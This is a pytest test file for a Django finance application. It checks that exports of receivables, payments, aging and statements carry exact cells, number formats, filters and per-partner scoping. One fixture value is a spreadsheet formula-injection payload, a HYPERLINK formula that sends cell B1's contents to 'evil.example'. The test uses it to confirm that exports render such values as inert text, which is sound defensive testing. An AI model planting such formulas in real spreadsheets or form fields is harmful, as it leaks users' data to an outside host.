"""Exports of the finance lists (qudao.core.exports): receivables, payments, aging, statements,
HQ and portal - exact rows and cells, the scoping rule and the lists' filters."""

from __future__ import annotations

import datetime
from decimal import Decimal

import pytest
from django.utils import timezone

from qudao.core.tests.export_reading import column, csv_of, rows_of, sheet_of
from qudao.finance import payments, statements
from qudao.finance.models import Invoice

D = Decimal
FORMULA = '=HYPERLINK("http://evil.example/?"&B1,"付款凭证")'


def invoice(partner, number, amount, issued_on, due_on):
    return Invoice.objects.create(
        number=number, partner=partner, source=Invoice.Source.ERP, issued_on=issued_on, due_on=due_on, amount=D(amount)
    )


@pytest.fixture
def books(world):
    """Receivables: dist_js INV-JS-1 12,345.675 (due 40 days ago) and INV-JS-2 500.00 (due in 10
    days), sub_js INV-SUB 800.00 (due 5 days ago), dealer_zj INV-ZJ 999.99 (due 100 days ago).
    dist_js paid 1,000.00 last month (bank reference a formula): allocated to INV-JS-1, oldest first."""
    today = timezone.localdate()
    last_month = (today.replace(day=1) - datetime.timedelta(days=1)).replace(day=10)
    made = {
        "js1": invoice(
            world.dist_js,
            "INV-JS-1",
            "12345.675",
            today - datetime.timedelta(days=70),
            today - datetime.timedelta(days=40),
        ),
        "js2": invoice(world.dist_js, "INV-JS-2", "500.00", today, today + datetime.timedelta(days=10)),
        "sub": invoice(
            world.sub_js, "INV-SUB", "800.00", today - datetime.timedelta(days=35), today - datetime.timedelta(days=5)
        ),
        "zj": invoice(
            world.dealer_zj,
            "INV-ZJ",
            "999.99",
            today - datetime.timedelta(days=130),
            today - datetime.timedelta(days=100),
        ),
    }
    made["payment"], _created = payments.record_payment(
        partner=world.dist_js,
        data={"amount": "1000.00", "received_on": last_month.isoformat(), "bank_reference": FORMULA},
        actor=world.finance,
    )
    made["statement"] = statements.generate_statement(partner=world.dist_js, month=last_month)
    for row in made.values():
        row.refresh_from_db()
    made["today"], made["last_month"] = today, last_month
    return made


def test_it_exports_receivables_with_exact_cells_scope_and_filters(world, books, page_client):
    # when finance exports the receivable list
    response = page_client(world.finance).get("/finance/invoices/", {"format": "xlsx"})
    rows = rows_of(response)
    # then every receivable, newest first, amounts as numbers rounded to cents
    assert rows[0] == [
        "Receivable number",
        "Partner code",
        "Partner",
        "Order number",
        "Source",
        "Issued on",
        "Due on",
        "Currency",
        "Amount",
        "Settled",
        "Outstanding",
        "Status",
        "Days overdue",
        "ERP reference",
        "Note",
    ]
    assert column(rows, "Receivable number") == ["INV-JS-2", "INV-SUB", "INV-JS-1", "INV-ZJ"]
    js1 = rows[3]
    assert js1[1:3] == [world.dist_js.code, world.dist_js.legal_name]
    assert js1[8:13] == [12345.68, 1000, 11345.68, "Partially paid", 40]  # 12,345.675 rounded half up
    assert js1[5] == datetime.datetime.combine(books["today"] - datetime.timedelta(days=70), datetime.time())
    sheet = sheet_of(response)
    assert sheet.cell(row=4, column=9).number_format == "#,##0.00"
    assert sheet.cell(row=4, column=6).number_format == "yyyy-mm-dd"
    # the list's filters: overdue, status, text
    client = page_client(world.finance)
    assert column(
        rows_of(client.get("/finance/invoices/", {"format": "xlsx", "overdue": "1"})), "Receivable number"
    ) == [
        "INV-SUB",
        "INV-JS-1",
        "INV-ZJ",
    ]
    rows = rows_of(client.get("/finance/invoices/", {"format": "xlsx", "status": "open", "q": "JS"}))
    assert column(rows, "Receivable number") == ["INV-JS-2"]
    # scope: the Jiangsu regional manager never gets the Zhejiang receivable
    rows = rows_of(page_client(world.regional_js).get("/finance/invoices/", {"format": "xlsx"}))
    assert column(rows, "Receivable number") == ["INV-JS-2", "INV-SUB", "INV-JS-1"]
    # the portal: the partner's own open receivables, by due date (not its sub-dealer's)
    rows = rows_of(page_client(world.dist_admin).get("/portal/finance/", {"format": "xlsx"}))
    assert column(rows, "Receivable number") == ["INV-JS-1", "INV-JS-2"]
    rows = rows_of(page_client(world.zj_admin).get("/portal/finance/", {"format": "xlsx"}))
    assert column(rows, "Receivable number") == ["INV-ZJ"]


def test_it_exports_payments_with_a_formula_as_text(world, books, page_client):
    response = page_client(world.finance).get("/finance/payments/", {"format": "xlsx"})
    rows = rows_of(response)
    assert rows[0][:4] == ["Payment number", "Partner code", "Partner", "Received on"]
    assert column(rows, "Payment number") == [books["payment"].number]
    assert column(rows, "Amount") == [1000]
    assert column(rows, "Allocated") == [1000]
    assert column(rows, "Unallocated") == [0]
    assert column(rows, "Bank reference") == [FORMULA]
    cell = sheet_of(response).cell(row=2, column=rows[0].index("Bank reference") + 1)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    # filters (partner code, status) and scope
    client = page_client(world.finance)
    assert len(rows_of(client.get("/finance/payments/", {"format": "xlsx", "partner": world.dealer_zj.code}))) == 1
    assert len(rows_of(client.get("/finance/payments/", {"format": "xlsx", "status": "announced"}))) == 1
    assert len(rows_of(page_client(world.regional_zj).get("/finance/payments/", {"format": "xlsx"}))) == 1
    text = csv_of(page_client(world.dist_admin).get("/portal/finance/payments/", {"format": "csv"}))
    lines = text.splitlines()
    assert len(lines) == 2 and lines[1].startswith(f"{books['payment'].number},{world.dist_js.code},")
    assert ',"\'=HYPERLINK(""http://evil.example/?""&B1,""付款凭证"")",' in lines[1]
    assert (
        len(csv_of(page_client(world.zj_admin).get("/portal/finance/payments/", {"format": "csv"})).splitlines()) == 1
    )


def test_it_exports_aging_by_partner_region_and_overall(world, books, page_client):
    client = page_client(world.finance)
    rows = rows_of(client.get("/finance/aging/", {"format": "xlsx"}))
    assert rows[0] == [
        "Code",
        "Name",
        "Currency",
        "Not yet due",
        "1-30 days",
        "31-60 days",
        "61-90 days",
        "Over 90 days",
        "Total outstanding",
    ]
    by_code = {row[0]: row[3:] for row in rows[1:]}
    assert by_code[world.dist_js.code] == [500, 0, 11345.68, 0, 0, 11845.68]
    assert by_code[world.sub_js.code] == [0, 800, 0, 0, 0, 800]
    assert by_code[world.dealer_zj.code] == [0, 0, 0, 0, 999.99, 999.99]
    rows = rows_of(client.get("/finance/aging/", {"format": "xlsx", "by": "overall"}))
    assert rows[1][3:] == [500, 800, 11345.68, 0, 999.99, 13645.67]
    rows = rows_of(page_client(world.regional_js).get("/finance/aging/", {"format": "xlsx", "by": "region"}))
    assert [row[1:] for row in rows[1:]] == [
        ["南京市", "CNY", 500, 0, 11345.68, 0, 0, 11845.68],
        ["苏州市", "CNY", 0, 800, 0, 0, 0, 800],
    ]


def test_it_exports_statements_in_scope(world, books, page_client):
    statement = books["statement"]
    rows = rows_of(page_client(world.finance).get("/finance/statements/", {"format": "xlsx"}))
    assert column(rows, "Statement number") == [statement.number]
    assert column(rows, "Partner code") == [world.dist_js.code]
    assert statement.balances["receivable"]["closing"] == "-1000.00"  # the payment; the receivables are not booked
    assert column(rows, "Receivable at the end") == [-1000]
    assert column(rows, "From") == [datetime.datetime.combine(statement.period_start, datetime.time())]
    assert column(rows, "Status") == [statement.get_status_display()]
    # the month filter; a month that is not one shows every month, as the list does
    assert (
        len(rows_of(page_client(world.finance).get("/finance/statements/", {"format": "xlsx", "month": "2001-01"})))
        == 1
    )
    assert len(rows_of(page_client(world.finance).get("/finance/statements/", {"format": "xlsx", "month": "x"}))) == 2
    assert len(rows_of(page_client(world.regional_zj).get("/finance/statements/", {"format": "xlsx"}))) == 1
    assert len(rows_of(page_client(world.dist_admin).get("/portal/finance/statements/", {"format": "xlsx"}))) == 2
    assert len(rows_of(page_client(world.zj_admin).get("/portal/finance/statements/", {"format": "xlsx"}))) == 1
